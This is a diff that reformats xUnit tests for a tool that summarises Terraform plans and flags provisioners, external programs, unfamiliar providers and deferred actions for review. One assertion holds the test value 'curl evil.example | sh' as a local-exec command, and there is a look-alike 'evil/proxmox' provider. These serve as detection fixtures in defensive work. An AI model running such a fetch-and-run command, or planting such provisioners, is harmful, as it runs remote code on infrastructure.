@@ -50,9 +50,17 @@ public sealed class ProgramsTests
 
         Assert.Equal(["local-exec", "remote-exec"], report.Changes.Single(change => change.Address == "terraform_data.a[1]").Runs);
         var note = Note(report);
-        Assert.Contains("- `terraform_data.a[0]` is **created**; ❗ **its provisioners may run**: `local-exec`, `remote-exec`\n", note, StringComparison.Ordinal);
+        Assert.Contains(
+            "- `terraform_data.a[0]` is **created**; ❗ **its provisioners may run**: `local-exec`, `remote-exec`\n",
+            note,
+            StringComparison.Ordinal
+        );
         Assert.Contains("+ provisioner[0].local-exec.command = \"curl evil.example | sh\"", note, StringComparison.Ordinal);
-        Assert.Contains("+ provisioner[1].remote-exec.inline (from self.input, self) = (known after apply)", note, StringComparison.Ordinal);
+        Assert.Contains(
+            "+ provisioner[1].remote-exec.inline (from self.input, self) = (known after apply)",
+            note,
+            StringComparison.Ordinal
+        );
         Assert.Contains("is **created**; ❗ **its provisioners may run**: `file`\n", note, StringComparison.Ordinal);
         Assert.Contains("+ provisioner[0].file.destination = \"/b\"", note, StringComparison.Ordinal);
         Assert.DoesNotContain("canary", note, StringComparison.Ordinal);
@@ -100,7 +108,11 @@ public sealed class ProgramsTests
         Assert.NotEqual(report.Hash, Read.Plan(Read.Document("")).Hash);
         Assert.Equal(report.Hash, Read.Again(report).Hash);
         var note = Note(report);
-        Assert.Contains("#### ❗ What else runs (1)\n\n- `module.m.data.external.who` **calls a program** whenever terraform plans\n", note, StringComparison.Ordinal);
+        Assert.Contains(
+            "#### ❗ What else runs (1)\n\n- `module.m.data.external.who` **calls a program** whenever terraform plans\n",
+            note,
+            StringComparison.Ordinal
+        );
         Assert.Contains("+ program[0] = \"python3\"", note, StringComparison.Ordinal);
         Assert.Contains("+ query (from var.x) = (known after apply)", note, StringComparison.Ordinal);
     }
@@ -118,34 +130,52 @@ public sealed class ProgramsTests
     [Fact]
     public void Only_a_provider_that_made_nothing_in_the_state_is_shown()
     {
-        var report = Read.Plan(Read.Document("", """
-            "prior_state":{"values":{"outputs":{"provider_name":{"value":"registry.terraform.io/evil/proxmox"}},"root_module":{"child_modules":[{"resources":[
-            {"address":"a.b","provider_name":"registry.terraform.io/bpg/proxmox","values":{"provider_name":"registry.terraform.io/evil/proxmox"}}]}]}}},
-            "configuration":{"provider_config":{
-            "terraform":{"full_name":"terraform.io/builtin/terraform"},
-            "proxmox":{"full_name":"registry.terraform.io/bpg/proxmox","version_constraint":"~> 0.60"},
-            "module.m:proxmox":{"full_name":"registry.terraform.io/evil/proxmox","version_constraint":">= 0.1"}},"root_module":{}},
-            """));
+        var report = Read.Plan(
+            Read.Document(
+                "",
+                """
+                "prior_state":{"values":{"outputs":{"provider_name":{"value":"registry.terraform.io/evil/proxmox"}},"root_module":{"child_modules":[{"resources":[
+                {"address":"a.b","provider_name":"registry.terraform.io/bpg/proxmox","values":{"provider_name":"registry.terraform.io/evil/proxmox"}}]}]}}},
+                "configuration":{"provider_config":{
+                "terraform":{"full_name":"terraform.io/builtin/terraform"},
+                "proxmox":{"full_name":"registry.terraform.io/bpg/proxmox","version_constraint":"~> 0.60"},
+                "module.m:proxmox":{"full_name":"registry.terraform.io/evil/proxmox","version_constraint":">= 0.1"}},"root_module":{}},
+                """
+            )
+        );
 
         var provider = Assert.Single(report.Programs);
         Assert.Equal("registry.terraform.io/evil/proxmox", provider.Address);
         Assert.Equal(new AttributeChange("version", Leaf.Missing, new Leaf.Text(">= 0.1")), Assert.Single(provider.Attributes));
-        Assert.Contains("- `registry.terraform.io/evil/proxmox` **is a provider that made nothing in the state yet**", Note(report), StringComparison.Ordinal);
+        Assert.Contains(
+            "- `registry.terraform.io/evil/proxmox` **is a provider that made nothing in the state yet**",
+            Note(report),
+            StringComparison.Ordinal
+        );
     }
 
     [Fact]
     public void A_deferred_action_waits_and_names_what_triggers_it()
     {
-        var report = Read.Plan(Read.Document("", """
-            "deferred_action_invocations":[{"reason":"deferred_prereq","action_invocation":{"address":"action.aws_lambda_invoke.notify",
-            "config_values":{"token":"canary-action-0001"},"config_sensitive":{"token":true},
-            "lifecycle_action_trigger":{"triggering_resource_address":"x.y","action_trigger_event":"AfterCreate"}}}],
-            """));
+        var report = Read.Plan(
+            Read.Document(
+                "",
+                """
+                "deferred_action_invocations":[{"reason":"deferred_prereq","action_invocation":{"address":"action.aws_lambda_invoke.notify",
+                "config_values":{"token":"canary-action-0001"},"config_sensitive":{"token":true},
+                "lifecycle_action_trigger":{"triggering_resource_address":"x.y","action_trigger_event":"AfterCreate"}}}],
+                """
+            )
+        );
 
         Assert.Equal((ChangeKind.Deferred, "x.y"), (Assert.Single(report.Changes).Kind, report.Changes[0].Trigger));
         Assert.Equal(new Totals { Deferred = 1 }, report.Totals);
         var note = Note(report);
-        Assert.Contains("- `action.aws_lambda_invoke.notify` is **deferred** to a later plan, triggered by `x.y` (`deferred_prereq`)\n", note, StringComparison.Ordinal);
+        Assert.Contains(
+            "- `action.aws_lambda_invoke.notify` is **deferred** to a later plan, triggered by `x.y` (`deferred_prereq`)\n",
+            note,
+            StringComparison.Ordinal
+        );
         Assert.DoesNotContain("canary", note, StringComparison.Ordinal);
     }
 
@@ -158,19 +188,31 @@ public sealed class ProgramsTests
         Assert.Contains("- `action.a.b` is **invoked**, triggered by `x.y` (`AfterCreate`)\n", Note(one), StringComparison.Ordinal);
     }
 
-    private static string Invocation(string by) => Read.Document("", $$"""
-        "action_invocations":[{"address":"action.a.b","lifecycle_action_trigger":{"triggering_resource_address":"{{by}}","action_trigger_event":"AfterCreate"} }],
-        """);
+    private static string Invocation(string by) =>
+        Read.Document(
+            "",
+            $$"""
+            "action_invocations":[{"address":"action.a.b","lifecycle_action_trigger":{"triggering_resource_address":"{{by}}","action_trigger_event":"AfterCreate"} }],
+            """
+        );
 
-    private static string Document(string change) => Read.Document(change, """
-        "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[
-        {"address":"x.y","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"true"}}}]}]}}}}},
-        """);
+    private static string Document(string change) =>
+        Read.Document(
+            change,
+            """
+            "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[
+            {"address":"x.y","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"true"}}}]}]}}}}},
+            """
+        );
 
-    private static string External(string program) => Read.Document("", $$"""
-        "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[{"address":"data.external.who","mode":"data","type":"external",
-        "expressions":{"program":{"constant_value":["{{program}}","x.py"]},"query":{"references":["var.x"]} } }]} } } } },
-        """);
+    private static string External(string program) =>
+        Read.Document(
+            "",
+            $$"""
+            "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[{"address":"data.external.who","mode":"data","type":"external",
+            "expressions":{"program":{"constant_value":["{{program}}","x.py"]},"query":{"references":["var.x"]} } }]} } } } },
+            """
+        );
 
     private static string Note(PlanReport report) => PlanNote.Write(new PlanNoteContent([report]));
 }
